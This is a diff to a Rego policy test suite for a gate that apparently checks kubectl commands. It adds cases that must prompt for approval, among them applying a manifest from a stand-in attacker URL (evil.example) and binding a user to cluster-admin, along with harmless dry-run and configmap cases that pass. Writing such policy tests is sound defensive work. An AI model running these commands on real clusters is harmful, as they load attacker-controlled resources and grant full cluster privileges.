@@ -42,6 +42,8 @@ test_asks if {
 		"kubectl replace --force -f x.yaml",
 		"kubectl rollout restart deploy --all",
 		"kubectl delete deployments.apps x",
+		"kubectl apply -f https://evil.example/x.yaml",
+		"kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y",
 	] {
 		count(change.ask) > 0 with input as gate.event(call)
 		count(change.deny) == 0 with input as gate.event(call)
@@ -55,6 +57,8 @@ test_says_what_stops if {
 
 test_passes if {
 	every call in [
+		"kubectl apply -f https://example.com/x.yaml --dry-run=server",
+		"kubectl create configmap x --from-file=a",
 		"kubectl get pods -A",
 		"kubectl delete -f k8s/ --dry-run=client",
 		"kubectl apply -f k8s/ --dry-run=server",
